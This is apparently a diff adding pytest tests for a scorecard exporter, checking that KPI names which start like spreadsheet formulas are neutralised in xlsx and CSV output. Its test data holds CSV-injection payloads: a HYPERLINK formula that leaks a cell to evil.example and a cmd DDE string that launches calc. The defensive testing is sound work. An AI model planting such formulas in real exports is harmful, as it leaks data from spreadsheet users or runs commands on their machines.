@@ -171,3 +171,91 @@ def test_csv_has_one_row_per_kpi_with_its_perspective_and_parses_back(export):
     assert cost["perspective"] == "Financial: revenue / cost" and cost["unit"] == "€"
     assert cost["stale"] == "true"
     assert rows[3]["actual"] == "" and rows[3]["status"] == "grey"
+
+
+# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), as users could type it into names.
+FORMULA_TEXTS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",  # full-width equals sign
+]
+
+
+@pytest.fixture
+def hostile_export() -> ExportScorecard:
+    rows = [
+        kpi("=Perspective()", text, unit=text, actual=-5.0, goal=-2.0, red_flag=-8.0, score=3.3, status="amber")
+        for text in FORMULA_TEXTS
+    ]
+    return ExportScorecard(
+        title="=TITLE()",
+        team="@Team",
+        period_label="2027-03",
+        score=3.3,
+        status="amber",
+        perspectives=[ExportPerspective("=Perspective()", "+Question?", 3.3, "amber", rows)],
+    )
+
+
+def test_names_that_start_like_formulas_are_plain_text_in_the_workbook(hostile_export):
+    workbook = open_workbook(to_xlsx(hostile_export))
+    sheet = workbook[workbook.sheetnames[1]]
+    summary = workbook["Summary"]
+
+    for row, text in enumerate(FORMULA_TEXTS, start=2):
+        for cell in (sheet.cell(row=row, column=1), sheet.cell(row=row, column=2)):  # KPI name and unit
+            assert (cell.value, cell.data_type) == (text, "s")
+            assert cell.quotePrefix, f"{text!r} would turn into a formula when edited"
+    for cell in (summary["A1"], summary["B2"], summary["A7"], summary["B7"]):  # title, team, perspective, question
+        assert cell.data_type == "s" and cell.quotePrefix and cell.value[0] in "=@+"
+
+
+def test_negative_numbers_stay_numbers_in_the_workbook(hostile_export):
+    sheet = open_workbook(to_xlsx(hostile_export)).worksheets[1]
+
+    assert [(c.value, c.data_type) for c in sheet[2][2:5]] == [(-5.0, "n"), (-2.0, "n"), (-8.0, "n")]
+
+
+def test_text_that_only_looks_special_is_kept_as_it_is_in_the_workbook():
+    export = ExportScorecard(
+        title="Scorecard", team="Acme", period_label="2027-03", score=None, status="grey",
+        perspectives=[ExportPerspective("Customer", "?", None, "grey", [
+            kpi("Customer", "#N/A", unit="=", status="grey"),
+            kpi("Customer", "Bell\x07 and form feed\x0c", unit="a-b", status="grey"),
+        ])],
+    )  # fmt: skip
+    sheet = open_workbook(to_xlsx(export))["Customer"]
+
+    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == ("#N/A", "s", False)
+    assert (sheet["B2"].value, sheet["B2"].data_type) == ("=", "s")
+    assert sheet["A3"].value == "Bell and form feed"  # characters a workbook cannot hold are left out
+    assert not sheet["B3"].quotePrefix
+
+
+def test_names_that_start_like_formulas_are_neutralised_in_the_csv(hostile_export):
+    rows = list(csv.DictReader(io.StringIO(to_csv(hostile_export))))
+
+    assert [row["kpi"] for row in rows] == ["'" + text for text in FORMULA_TEXTS]
+    assert [row["unit"] for row in rows] == ["'" + text for text in FORMULA_TEXTS]
+    assert {(row["team"], row["perspective"]) for row in rows} == {("'@Team", "'=Perspective()")}
+
+
+def test_a_line_break_inside_a_name_cannot_start_a_new_csv_row():
+    export = ExportScorecard(
+        title="Scorecard", team="Acme", period_label="2027-03", score=None, status="grey",
+        perspectives=[ExportPerspective("Customer", "?", None, "grey", [kpi("Customer", "Reach\r=1+1")])],
+    )  # fmt: skip
+    rows = list(csv.DictReader(io.StringIO(to_csv(export), newline="")))
+
+    assert [row["kpi"] for row in rows] == ["Reach\r=1+1"]
+
+
+def test_negative_numbers_stay_numbers_in_the_csv(hostile_export):
+    row = next(csv.DictReader(io.StringIO(to_csv(hostile_export))))
+
+    assert (row["actual"], row["goal"], row["red_flag"]) == ("-5.0", "-2.0", "-8.0")
